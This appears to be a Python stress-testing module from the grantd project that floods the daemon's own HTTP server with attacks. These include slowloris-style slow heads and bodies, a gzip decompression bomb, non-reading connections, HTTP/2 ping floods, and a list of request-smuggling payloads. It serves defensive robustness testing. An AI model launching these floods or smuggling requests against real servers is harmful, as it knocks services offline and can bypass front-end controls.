# SPDX-License-Identifier: Apache-2.0
# This source file is part of grantd.
# Copyright (c) 2026 the grantd authors
"""Attacks on the daemon's HTTP: what is sent, and how."""

from __future__ import annotations

import contextlib
import gzip
import itertools
import json
import selectors
import socket
import time
from collections.abc import Callable, Iterator

from crowd import connect

_SINK = bytearray(1 << 20)
_HOST = "Host: h\r\n"
_JSON = "Content-Type: application/json\r\n"


def post(path: str, headers: str, body: str = "") -> bytes:
    """The bytes of a request."""
    return f"POST {path} HTTP/1.1\r\n{_HOST}{_JSON}{headers}\r\n{body}".encode()


def _sized(path: str, body: str) -> bytes:
    return post(path, f"Content-Length: {len(body)}\r\n", body)


def get(path: str, headers: str = "") -> bytes:
    """The bytes of a request without a body."""
    return f"GET {path} HTTP/1.1\r\n{_HOST}{headers}\r\n".encode()


HEALTH = "/grpc.health.v1.Health/Check"
HEALTH_CALL = post(HEALTH, "Content-Length: 2\r\n", "{}")
_SCHEMA = get("/grantd.v1.Catalogue/GetSchema?encoding=json&message=%7B%7D")
_APPLICATION = {"as_of": "2026-05-20", "medical_device_common_platform": {}}
# What frames.SHORT is.
CALL = _sized(
    "/grantd.v1.Calculator/Evaluate",
    json.dumps({
        "application": {
            "as_of": "2026-05-20",
            "subject_id": "P-1",
            "applicant": {"kind": "ENTERPRISE", "registered_in_beijing": True},
            "medical_device_common_platform": {
                "common_technology_platform": True,
                "engineering_investment_fen": 80_000_000_000,
                "for_medical_device_industry": True,
            },
        }
    }),
)
_BATCH = _sized("/grantd.v1.Calculator/EvaluateBatch", json.dumps({"applications": [_APPLICATION] * 4096}))

_BOMB = gzip.compress(b" " * (64 << 20), 9)
_BOMBS = (
    f"POST /grantd.v1.Calculator/EvaluateBatch HTTP/1.1\r\n{_HOST}{_JSON}Content-Encoding: gzip\r\n"
    f"Content-Length: {len(_BOMB)}\r\n\r\n"
).encode() + _BOMB

_BEHIND = "GET /healthz HTTP/1.1\r\nHost: h\r\n\r\n"
SMUGGLED = [
    post(HEALTH, "Content-Length: 2\r\nTransfer-Encoding: chunked\r\n", "0\r\n\r\n" + _BEHIND),
    post(HEALTH, "Transfer-Encoding: chunked\r\nContent-Length: 2\r\n", "0\r\n\r\n" + _BEHIND),
    post(HEALTH, "Content-Length: 2\r\nContent-Length: 3\r\n", "{}" + _BEHIND),
    post(HEALTH, "Content-Length: +2\r\n", "{}" + _BEHIND),
    post(HEALTH, "Content-Length : 2\r\n", "{}" + _BEHIND),
    post(HEALTH, "Transfer-Encoding: xchunked\r\n", "0\r\n\r\n" + _BEHIND),
    post(HEALTH, "Transfer-Encoding: chunked\r\n", "2x\r\n{}\r\n0\r\n\r\n"),
    post(HEALTH, "Expect: the-worst\r\n"),
    b"GET /\x00 HTTP/1.1\r\n\r\n", b"GET /\xff HTTP/1.1\r\n\r\n",
    b"CONNECT h:80 HTTP/1.1\r\nHost: h:80\r\n\r\n",
    b"\x16\x03\x01\x02\x00\x01" + bytes(512), b"\x00" * 64,
]


# The preface of a client of HTTP/2 that knows nothing of HTTP/1.1, with its settings; and pings.
_HTTP2 = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes([0, 0, 0, 4, 0, 0, 0, 0, 0])
_PINGS = (bytes([0, 0, 8, 6, 0, 0, 0, 0, 0]) + bytes(8)) * 400


class Flood:
    """Connections that each send what `pieces` gives, as fast as it goes or `interval` seconds apart; lost ones come back."""

    def __init__(self, port: int, count: int, pieces: Callable[[int], Iterator[bytes]], *,
                 interval: float = 0, reads: bool = True) -> None:
        self._port, self._count, self._pieces, self._interval, self._reads = port, count, pieces, interval, reads

    def run(self) -> None:
        """Attacks until the process is ended."""
        peers: dict[int, _Sender] = {}
        selector = selectors.DefaultSelector()
        while True:
            for index in range(self._count):
                if index not in peers:
                    peer = connect(self._port, index, 8, slow=not self._reads)
                    peers[index] = _Sender(peer, self._pieces(index))
                    selector.register(peer, selectors.EVENT_READ, index)
            for index, peer in list(peers.items()):
                if not peer.advance(self._interval, self._reads):
                    selector.unregister(peer.socket)
                    peer.socket.close()
                    del peers[index]
            time.sleep(0.01)


class _Sender:
    def __init__(self, peer: socket.socket, pieces: Iterator[bytes]) -> None:
        self.socket, self._pieces = peer, pieces
        self._rest = memoryview(b"")
        self._next = 0.0

    def advance(self, interval: float, reads: bool) -> bool:
        """Sends and reads what it may; whether the connection stands."""
        try:
            with contextlib.suppress(BlockingIOError):
                for _ in range(64):
                    if not self._rest:
                        now = time.monotonic()
                        if now < self._next:
                            break
                        self._next = now + interval
                        piece = next(self._pieces, None)
                        if piece is None:
                            break
                        self._rest = memoryview(piece)
                    self._rest = self._rest[self.socket.send(self._rest) :]
            with contextlib.suppress(BlockingIOError):
                while reads:
                    if self.socket.recv_into(_SINK) == 0:
                        return False
        except OSError:
            return False
        return True


def _flood(count: int, head: bytes, *rest: bytes, interval: float = 0, reads: bool = True) -> Callable[[int], None]:
    """`head` once, and then the others without end."""
    def pieces(_: int) -> itertools.chain[bytes]:
        return itertools.chain([head], itertools.cycle(rest) if rest else [])

    return lambda port: Flood(port, count, pieces, interval=interval, reads=reads).run()


def _smuggling(port: int) -> None:
    def pieces(index: int) -> itertools.chain[bytes]:
        return itertools.chain([SMUGGLED[index % len(SMUGGLED)]])

    Flood(port, 64, pieces).run()


ATTACKS: dict[str, Callable[[int], None]] = {
    "http-slow-heads x900": _flood(900, b"GET / HTTP/1.1\r\n", b"a: b\r\n", interval=0.5),
    "http-slow-bodies x900": _flood(900, post(HEALTH, "Content-Length: 60000\r\n"), b" ", interval=0.5),
    "http-large-heads x64": _flood(64, b"GET / HTTP/1.1\r\n", b"a" * 4000),
    "http-endless-chunks x16": _flood(16, post(HEALTH, "Transfer-Encoding: chunked\r\n"), b"400\r\n" + b" " * 1024 + b"\r\n"),
    "http-crumbs x16": _flood(16, post(HEALTH, "Transfer-Encoding: chunked\r\n"), b"1;x=y\r\n \r\n" * 400),
    "http-not-reading x40": _flood(40, b"", _SCHEMA * 250, reads=False),
    "http-pipelining x16": _flood(16, b"", get("/nowhere") * 400),
    "http-batches x4": _flood(4, b"", _BATCH),
    "http-bombs x64": _flood(64, b"", _BOMBS),
    "http-gzip-replies x16": _flood(16, b"", get("/grantd.v1.Catalogue/GetSchema?encoding=json&message=%7B%7D", "Accept-Encoding: gzip\r\n")),
    # Asked to go on, they never do.
    "http-expect x900": _flood(900, post(HEALTH, "Content-Length: 60000\r\nExpect: 100-continue\r\n")),
    "http-0.9 x64": _flood(64, b"GET /healthz\r\n\r\n"),
    "http-2-preface x64": _flood(64, _HTTP2, _PINGS),
    "http-smuggling x64": _smuggling,
}
